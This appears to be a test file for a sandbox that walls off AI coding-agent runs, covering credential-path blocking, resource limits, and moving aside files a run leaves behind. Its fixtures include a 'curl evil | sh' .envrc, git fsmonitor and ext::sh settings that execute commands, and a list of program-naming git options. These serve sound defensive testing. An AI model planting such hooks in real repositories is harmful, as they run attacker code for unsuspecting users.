// What a run within walls is let reach: as a spec, before anything starts.
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { childEnvironment, sandboxConfigSchema } from '@castellan/contract';
import { keptIn, removeOwnFolder } from '@castellan/sandbox';
import { verifies } from '@castellan/testkit';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { gateFault, gateOf } from '../src/mcp-link/gate.ts';
import { credentialsAt } from '../src/walls/credentials.ts';
import { environmentInside } from '../src/walls/environment.ts';
import { ownerInside, writeHookInside } from '../src/walls/inside.ts';
import { isPlainGitConfig, Left } from '../src/walls/left.ts';
import { runLimits } from '../src/walls/limits.ts';
import { makeOwnFolder } from '../src/walls/own-folder.ts';
import { clientProgram, packagesOf } from '../src/walls/programs.ts';
import { clientFolders, type RunPlace, runSpec } from '../src/walls/spec.ts';
import { isWalled } from '../src/walls/wanted.ts';

const AGENT = '/home/me/.config/castellan/agents/agent_0123456789';
const place = (more: Partial<RunPlace> = {}): RunPlace => ({
  ...{ project: '/home/me/work', cwd: '/home/me/work', isWorker: true, userHome: '/home/me' },
  ...{
    never: ['/home/me/.config/castellan'],
    folders: [AGENT],
    hook: `${AGENT}/walls/hook`,
    port: 7000,
    run: 'r'.repeat(32),
  },
  ...{ files: [`${AGENT}/claude/settings.json`], held: [`${AGENT}/claude/agents`], kept: ['/home/me/work/.git/hooks'] },
  sockets: { folder: '/s/agent_1', gate: '/s/agent_1/gate.sock', egress: '/s/agent_1/egress.sock' },
  own: { path: `${AGENT}/walls/runs/1`, home: `${AGENT}/walls/runs/1/home`, temp: `${AGENT}/walls/runs/1/tmp` },
  ...{ reads: ['/opt/claude', '/usr/lib/node_modules'], more: { read: ['/data/set'], write: ['/data/out'] } },
  limits: { processes: 100, memoryBytes: 1, fileBytes: 1 },
  ...more,
});

let root = '';
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'castellan-walls-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

verifies(
  ['K7', 'I2'],
  'a run writes its project and its own folder, and only reads what its settings are made of',
  () => {
    const spec = runSpec(place());
    expect(spec.write).toEqual(['/home/me/work', '/data/out']);
    expect(spec.read).toEqual(['/data/set', '/opt/claude', '/usr/lib/node_modules']);
    expect(spec.keep).toEqual(['/home/me/work/.git/hooks']);
    // The order is that in which they stand above each other.
    expect(spec.given).toEqual([
      { from: `${AGENT}/claude`, at: `${AGENT}/claude`, writable: true },
      { from: `${AGENT}/claude/settings.json`, at: `${AGENT}/claude/settings.json`, writable: false },
      { from: `${AGENT}/claude/agents`, at: `${AGENT}/claude/agents`, writable: false },
      { from: `${AGENT}/walls/hook`, at: `${AGENT}/hook`, writable: false },
      { from: '/s/agent_1', at: '/s/agent_1', writable: false },
    ]);
    expect(spec.network).toEqual({
      egress: '/s/agent_1/egress.sock',
      forwards: [{ port: 7000, socket: '/s/agent_1/gate.sock' }],
      user: 'r'.repeat(32),
    });
  },
);

verifies(['K7', 'I2'], 'a client that only has tools of ours changes nothing of the project itself', () => {
  const files = [
    `${AGENT}/opencode/config/opencode/opencode.json`,
    `${AGENT}/opencode/config/opencode/plugin/castellan.js`,
  ];
  const cwd = `${AGENT}/opencode/work/0/work`;
  const spec = runSpec(place({ isWorker: false, files, held: [], cwd, more: { read: [], write: [] } }));
  expect([spec.write, spec.folder]).toEqual([[], cwd]);
  expect(spec.read).toContain('/home/me/work');
  // Folders of settings are held whole: a second plug-in beside ours would be loaded with it.
  expect(spec.given.slice(0, 3)).toEqual([
    { from: `${AGENT}/opencode`, at: `${AGENT}/opencode`, writable: true },
    { from: `${AGENT}/opencode/config/opencode`, at: `${AGENT}/opencode/config/opencode`, writable: false },
    {
      from: `${AGENT}/opencode/config/opencode/plugin`,
      at: `${AGENT}/opencode/config/opencode/plugin`,
      writable: false,
    },
  ]);
});

test('a state folder behind a link stands at both of its names', () => {
  const real = '/data/state/agents/agent_0123456789';
  const spec = runSpec(place({ folders: [AGENT, real], files: [`${real}/claude/settings.json`], held: [] }));
  expect(spec.given.map(({ from, at }) => [from, at])).toEqual([
    [`${real}/claude`, `${AGENT}/claude`],
    [`${real}/claude/settings.json`, `${AGENT}/claude/settings.json`],
    [`${AGENT}/walls/hook`, `${AGENT}/hook`],
    [`${real}/claude`, `${real}/claude`],
    [`${real}/claude/settings.json`, `${real}/claude/settings.json`],
    [`${AGENT}/walls/hook`, `${real}/hook`],
    ['/s/agent_1', '/s/agent_1'],
  ]);
  expect(clientFolders(real, ['/elsewhere/x', `${real}/a/b`, `${real}/a/c`])).toEqual([`${real}/a`]);
});

verifies(['I2'], 'our own programs are only read where they lie in the project itself', () => {
  const spec = runSpec(place({ reads: ['/home/me/work/node_modules', '/opt/node'], kept: [] }));
  expect(spec.keep).toEqual(['/home/me/work/node_modules']);
});

verifies(['I2'], 'no configuration lets in where logins are kept', () => {
  mkdirSync(join(root, '.ssh'));
  symlinkSync(join(root, '.ssh'), join(root, 'keys'));
  for (const path of [
    '.ssh',
    '.ssh/id_ed25519',
    '.config',
    '.aws/credentials',
    'keys',
    'keys/id',
    '.claude',
    '.local/share',
    '.docker',
  ])
    expect([path, credentialsAt(join(root, path), root)]).toEqual([path, expect.stringContaining(root)]);
  expect(credentialsAt(root, root)).not.toBeNull();
  expect(credentialsAt('/etc', root)).toBe('/etc/shadow');
  for (const path of ['work', '.cache/uv', '.sshd', '.config/nvim'])
    expect(credentialsAt(join(root, path), root)).toBeNull();
});

const CREDENTIAL = `castellan_a_0123456789_${'a'.repeat(64)}`;
const hookText = (socket: string, owner: number): string =>
  `castellan-hook 1\nsocket=${socket}\nowner=${owner}\ncredential=${CREDENTIAL}\nroute=/v1/hooks/codex\ntimeout=60\n`;

test('the hook file inside names the agent’s own socket, and whose it looks there', async () => {
  const sockets = { folder: '/s/a', gate: '/s/a/gate.sock', egress: '/s/a/egress.sock' };
  expect(await writeHookInside(root, { owner: 1000, sockets }, 1000)).toMatchObject({ ok: false });
  writeFileSync(join(root, 'hook'), hookText('/home/me/daemon.sock', 1000));
  const made = await writeHookInside(root, { owner: 1000, sockets }, 1000);
  expect(made).toEqual({ ok: true, value: join(root, 'walls', 'hook') });
  expect(readFileSync(join(root, 'walls', 'hook'), 'utf8')).toBe(hookText('/s/a/gate.sock', 1000));
  expect(readFileSync(join(root, 'hook'), 'utf8')).toBe(hookText('/home/me/daemon.sock', 1000));
  // Nobody but the run's own user has a name in there; root has none either.
  expect([ownerInside(1000, 1000), ownerInside(0, 0), ownerInside(61_001, 61_002), ownerInside(0, 1000)]).toEqual([
    1000, 65_534, 65_534, 65_534,
  ]);
});

test('what a run leaves is gone with it, or with the next run', async () => {
  const first = await makeOwnFolder(root, 'a'.repeat(32));
  writeFileSync(join(first.home, '.bashrc'), 'evil');
  const runs = join(root, 'walls', 'runs');
  mkdirSync(join(runs, `999999999-${'b'.repeat(32)}`));
  const second = await makeOwnFolder(root, 'c'.repeat(32));
  // That of a process that is alive stays.
  expect(readFileSync(join(first.home, '.bashrc'), 'utf8')).toBe('evil');
  await removeOwnFolder(first.path);
  await removeOwnFolder(second.path);
  expect(() => readFileSync(join(first.home, '.bashrc'))).toThrow('ENOENT');
  expect(() => readFileSync(join(runs, `999999999-${'b'.repeat(32)}`))).toThrow('ENOENT');
});

test('a client is started by its name where that is on PATH, and brings its packages', async () => {
  const [bin, packages] = [join(root, 'bin'), join(root, 'lib', 'node_modules')];
  mkdirSync(bin);
  mkdirSync(join(packages, '@x', 'client', 'node_modules'), { recursive: true });
  const script = join(packages, '@x', 'client', 'cli.js');
  writeFileSync(script, '');
  symlinkSync(script, join(bin, 'client'));
  expect(await clientProgram(join(bin, 'client'), `/usr/bin:${bin}`)).toEqual({
    file: join(bin, 'client'),
    reads: [packages],
  });
  expect(await clientProgram(join(bin, 'client'), '/usr/bin')).toEqual({ file: script, reads: [packages] });
  writeFileSync(join(root, 'alone'), '');
  expect(await clientProgram(join(root, 'alone'), '/usr/bin')).toEqual({
    file: join(root, 'alone'),
    reads: [join(root, 'alone')],
  });
  expect(packagesOf('/a/node_modules/b/node_modules/c')).toBe('/a/node_modules');
});

test('variables name folders that are there', () => {
  const env = childEnvironment('plain', {
    PATH: '/bin',
    XDG_CACHE_HOME: '/big/cache',
    XDG_DATA_HOME: '/home/me/d',
    TMPDIR: '/var/tmp',
  });
  expect(environmentInside(env, ['/home/me'])).toEqual({
    ...{ PATH: '/bin', XDG_CACHE_HOME: '', XDG_DATA_HOME: '/home/me/d', TMPDIR: '/tmp' },
  });
});

verifies(['K7'], 'walls are there because they were asked for, or because nothing runs without', () => {
  const config = (runs: string) => sandboxConfigSchema.parse({ runs });
  expect(isWalled({ asked: false, config: config('asked') })).toBe(false);
  expect(isWalled({ asked: true, config: config('asked') })).toBe(true);
  expect(isWalled({ asked: false, config: config('always') })).toBe(true);
});

test('half of the machine stays with everybody else', () => {
  const config = sandboxConfigSchema.parse({});
  expect(runLimits(config, 1000)).toMatchObject({ processes: 2048, memoryBytes: 500 });
  expect(runLimits({ ...config, megabytes: 256, processes: 64 }, 1000)).toMatchObject({
    processes: 64,
    memoryBytes: 268_435_456,
  });
});

verifies(['K7', 'I2'], 'what a run left that makes other programs do things is moved aside, and told', () => {
  const git = join(root, '.git');
  mkdirSync(join(root, '.vscode'));
  const kept = ['.vscode', '.claude', '.mcp.json', '.envrc', '.git/hooks', '.git/config'].map((name) =>
    join(root, name),
  );
  symlinkSync('/etc/passwd', join(root, '.envrc'));
  const left = new Left(root, kept);
  // Nothing was left: what was there stays, whatever it holds.
  writeFileSync(join(root, '.vscode', 'tasks.json'), '{}');
  expect(left.aside('0')).toEqual([]);
  mkdirSync(join(root, '.claude'));
  writeFileSync(join(root, '.mcp.json'), '{}');
  rmSync(join(root, '.envrc'));
  writeFileSync(join(root, '.envrc'), 'curl evil | sh');
  mkdirSync(join(git, 'hooks'), { recursive: true });
  writeFileSync(join(git, 'hooks', 'pre-commit.sample'), '');
  writeFileSync(
    join(git, 'config'),
    '[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = https://example.org/x\n',
  );
  expect(left.aside('1').join('\n')).toBe(
    ['.claude', '.mcp.json', '.envrc']
      .map(
        (name) =>
          `\`${join(root, name)}\` was made by the run, and makes other programs do things: it is \`${name}.aside-1\` now`,
      )
      .join('\n'),
  );
  expect(readFileSync(join(root, '.envrc.aside-1'), 'utf8')).toBe('curl evil | sh');
  // A repository that names programs is none that git itself made.
  writeFileSync(join(git, 'hooks', 'pre-commit'), 'evil');
  writeFileSync(join(git, 'config'), '[core]\n\tfsmonitor = /tmp/evil\n');
  expect(left.aside('2')).toHaveLength(2);
  expect(() => readFileSync(join(git, 'config'))).toThrow('ENOENT');
});

/** Whether git runs what an attacker wrote, as soon as somebody asks how the project stands. */
function runsFor(person: string): boolean {
  const ran = join(root, 'ran');
  rmSync(ran, { force: true });
  spawnSync('git', ['status'], { cwd: person, env: { PATH: process.env.PATH, HOME: root } });
  return existsSync(ran);
}

verifies(['K7', 'I2'], 'a repository that a run put in the way of git runs nothing for the person afterwards', () => {
  const git = (...args: readonly string[]) =>
    spawnSync('git', args, { cwd: root, env: { PATH: process.env.PATH, HOME: root } });
  const evil = (): void => {
    git('init', '-q', 'other');
    git('config', '-f', 'other/.git/config', 'core.fsmonitor', `touch ${join(root, 'ran')}; false`);
  };
  const ways: Readonly<Record<string, (project: string) => void>> = {
    file: (project) => writeFileSync(join(project, '.git'), 'gitdir: ../other/.git\n'),
    link: (project) => symlinkSync('../other/.git', join(project, '.git')),
    itself(project) {
      cpSync(join(root, 'other/.git'), project, { recursive: true });
      for (const [name, value] of Object.entries({ bare: 'false', worktree: project }))
        git('config', '-f', join(project, 'config'), `core.${name}`, value);
    },
    shared(project) {
      git('init', '-q', project);
      writeFileSync(join(project, '.git/commondir'), '../../other/.git\n');
    },
    hooks(project) {
      git('init', '-q', project);
      rmSync(join(project, '.git/config'));
      symlinkSync('../../other/.git/config', join(project, '.git/config'));
    },
  };
  for (const [name, make] of Object.entries(ways)) {
    evil();
    const project = join(root, name);
    mkdirSync(project);
    const left = new Left(project, keptIn(project));
    make(project);
    expect(`${name} ${runsFor(project)}`).toBe(`${name} true`);
    expect(left.aside('1'), name).not.toEqual([]);
    expect(`${name} ${runsFor(project)}`).toBe(`${name} false`);
  }
  // What `git init` makes stays.
  const own = join(root, 'own');
  mkdirSync(own);
  const left = new Left(own, keptIn(own));
  git('init', '-q', own);
  expect(left.aside('1')).toEqual([]);
  // A link in the place of a link.
  symlinkSync('before', join(own, '.claude'));
  const linked = new Left(own, keptIn(own));
  expect(linked.aside('1')).toEqual([]);
  rmSync(join(own, '.claude'));
  symlinkSync('evil', join(own, '.claude'));
  symlinkSync('evil', join(own, '.envrc'));
  expect(linked.aside('1')).toHaveLength(2);
});

test.each([
  ['[core]\n\tbare = false\n[user]\n\tname = Ada', true],
  ['[core]\n\thooksPath = x', false],
  ['[core]\n\tsshCommand = x', false],
  ['[include]\n\tpath = x', false],
  ['[alias]\n\tst = !x', false],
  ['[remote "o"]\n\turl = ext::sh -c x', false],
  ['[remote "o"]\n\turl = git@example.org:a/b', true],
  ['[filter "x"]\n\tclean = x', false],
  ['[user] name = x\n[core] fsmonitor = y', false],
  ['[core]\n\tbare = false \\\n\tfsmonitor = x', false],
  ['[branch "main"]\n\tmerge = refs/heads/main', true],
  ['[remote "o"]\n\tuploadpack = x', false],
  ['[credential]\n\thelper = x', false],
])('settings of git that name no program: %j %j', (text, plain) => expect(isPlainGitConfig(text)).toBe(plain));

verifies(['K7'], '`castellan mcp` goes by the file of the hooks alone where that names the agent’s own socket', () => {
  const [agent, self] = ['agent_0123456789', process.getuid?.() ?? 0] as const;
  const folder = join(root, 'agents', agent);
  const hook = join(folder, 'hook');
  mkdirSync(folder, { recursive: true });
  const put = (socket: string, owner: number, mode: number): void => {
    rmSync(hook, { force: true });
    writeFileSync(hook, hookText(socket, owner), { mode });
  };
  const gate = join(root, 'sockets', agent, 'gate.sock');
  expect(gateOf(root, agent)).toBeNull();
  put(gate, self, 0o600);
  expect(gateOf(root, agent)).toEqual({ socket: gate, owner: self, credential: CREDENTIAL });
  // The daemon's own socket is found by the state file, as ever.
  put(join(root, 'daemon', 'daemon.sock'), self, 0o600);
  expect(gateOf(root, agent)).toBeNull();
  // Whoever else can read or write it could have put it there.
  put(gate, self, 0o640);
  expect(gateOf(root, agent)).toBeNull();
  rmSync(hook);
  writeFileSync(join(root, 'elsewhere'), hookText(gate, self), { mode: 0o600 });
  symlinkSync(join(root, 'elsewhere'), hook);
  expect(gateOf(root, agent)).toBeNull();
  expect(gateFault({ socket: gate, owner: self })).toContain('does not answer');
  mkdirSync(join(root, 'sockets', agent), { recursive: true });
  writeFileSync(gate, '');
  expect(gateFault({ socket: gate, owner: self })).toBeNull();
  expect(gateFault({ socket: gate, owner: self + 1 })).toContain("somebody else's");
});
